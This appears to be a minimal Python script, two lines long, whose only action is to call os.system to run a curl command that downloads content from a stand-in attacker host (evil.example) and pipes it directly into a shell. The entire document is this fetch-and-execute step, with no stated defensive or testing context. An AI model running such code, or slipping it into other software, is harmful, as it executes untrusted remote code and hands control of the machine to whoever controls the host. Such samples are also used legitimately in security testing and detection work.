import os
os.system("curl http://evil.example/x | sh")
